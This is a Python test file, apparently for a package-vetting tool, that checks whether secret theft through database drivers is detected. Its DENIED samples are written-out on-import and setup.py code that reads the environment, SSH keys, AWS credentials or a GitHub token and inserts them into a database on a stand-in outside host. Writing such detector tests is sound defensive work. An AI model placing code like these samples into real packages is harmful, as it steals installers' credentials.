"""Secrets inserted into a database on another host through its driver (issue 16; ADR
0195).

``psycopg2.connect(host=h).cursor().execute('INSERT ...', (env,))`` and
``pymongo.MongoClient(uri).db.c.insert_one(dict(os.environ))`` send what they store to the
database's host; a driver was no sink. A credential or the whole environment stored is now
exfiltration; a connection made with a password from the environment, rows of the
application's own, and a database library's tests stay allowed. Every sample is inert:
vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import called_on_import, init, verdict_cases, vet_package

HOST = "203.0.113.7"


def on_import(body: str) -> dict[str, str]:
    """``__init__.py`` running ``body`` in a function called on import."""
    return called_on_import("import json, os\n", body)


DENIED: dict[str, Mapping[str, str]] = {
    "environment-inserted-by-psycopg2": on_import(
        f"    import psycopg2\n    c = psycopg2.connect(host={HOST!r}, dbname='x', user='u')\n"
        "    cur = c.cursor()\n"
        "    cur.execute('INSERT INTO e (d) VALUES (%s)', (json.dumps(dict(os.environ)),))\n"
        "    c.commit()\n"
    ),
    "ssh-key-inserted-through-a-cursor-block": on_import(
        f"    import psycopg2\n    with psycopg2.connect('host={HOST} dbname=x') as c:\n"
        "        with c.cursor() as cur:\n"
        "            cur.execute('INSERT INTO k VALUES (%s)',"
        " [open(os.path.expanduser('~/.ssh/id_rsa')).read()])\n"
    ),
    "aws-credentials-spelt-into-a-pymysql-insert": on_import(
        "    import pymysql\n    k = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        f"    conn = pymysql.connect(host={HOST!r}, user='u', password='p', database='d')\n"
        "    conn.cursor().execute(f\"INSERT INTO t VALUES ('{k}')\")\n"
    ),
    "environment-inserted-into-a-mongo-collection-by-subscript": on_import(
        f"    import pymongo\n    pymongo.MongoClient('mongodb://u:p@{HOST}:27017/')"
        "['loot']['env'].insert_one(dict(os.environ))\n"
    ),
    "environment-items-inserted-into-a-mongo-collection-by-attribute": on_import(
        f"    from pymongo import MongoClient\n    db = MongoClient(host={HOST!r}).loot\n"
        "    db.keys.insert_many([{'k': k, 'v': v} for k, v in os.environ.items()])\n"
    ),
    "environment-items-by-mysql-connector-executemany": on_import(
        f"    import mysql.connector\n    cn = mysql.connector.connect(host={HOST!r})\n"
        "    cn.cursor().executemany('INSERT INTO e VALUES (%s, %s)', list(os.environ.items()))\n"
    ),
    "environment-by-psycopg3-connection-execute": on_import(
        f"    import psycopg\n    with psycopg.connect('postgresql://u:p@{HOST}/d') as c:\n"
        "        c.execute('INSERT INTO e VALUES (%s)', (str(dict(os.environ)),))\n"
    ),
    "a-token-stored-by-setup-py": {
        "setup.py": (
            "import os, pymongo\nfrom setuptools import setup\n"
            f"pymongo.MongoClient('mongodb://{HOST}:27017').a.b.insert_one("
            "{'t': os.environ.get('GITHUB_TOKEN')})\nsetup(name='evpkg')\n"
        ),
        "evpkg/__init__.py": "",
    },
}
ALLOWED: dict[str, Mapping[str, str]] = {
    # A driver's tests, connecting to the local server with the environment's password.
    "driver-tests-on-localhost-with-the-environments-password": {
        "evpkg/__init__.py": "",
        "tests/test_conn.py": (
            "import os, psycopg2\nconn = psycopg2.connect(host=os.environ.get('PGHOST',"
            " 'localhost'), password=os.environ.get('PGPASSWORD'))\ncur = conn.cursor()\n"
            "cur.execute('INSERT INTO t VALUES (%s)', (os.environ.get('PGUSER'),))\n"
        ),
    },
    # An application connects with its password from the environment and makes its table.
    "app-connects-with-its-password-and-makes-a-table-on-import": on_import(
        "    import psycopg2\n    c = psycopg2.connect(host=os.environ['DB_HOST'],"
        " user=os.environ['DB_USER'], password=os.environ['DB_PASSWORD'])\n"
        "    c.cursor().execute('CREATE TABLE IF NOT EXISTS jobs (id serial)')\n"
    ),
    # An application records the interpreter's version in its database on import.
    "app-records-its-python-version-on-import": on_import(
        "    import platform, pymongo\n    db = pymongo.MongoClient(os.environ['MONGO_URI']).app\n"
        "    db.boots.insert_one({'python': platform.python_version()})\n"
    ),
    # A user's setting saved to the local database on import, one variable.
    "one-variable-saved-to-a-local-database-on-import": on_import(
        "    import pymongo\n    pymongo.MongoClient('localhost', 27017).test.env"
        ".insert_one({'user': os.environ.get('USER')})\n"
    ),
    # A caller's configuration saved when called.
    "configuration-saved-when-called": init(
        "import json, os, pymysql\n\n\ndef save(cfg):\n"
        "    c = pymysql.connect(host=os.environ.get('DB_HOST', 'localhost'),"
        " password=os.environ.get('DB_PASSWORD'))\n"
        "    c.cursor().execute('INSERT INTO cfg VALUES (%s)', (json.dumps(cfg),))\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_inserted_into_a_database(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
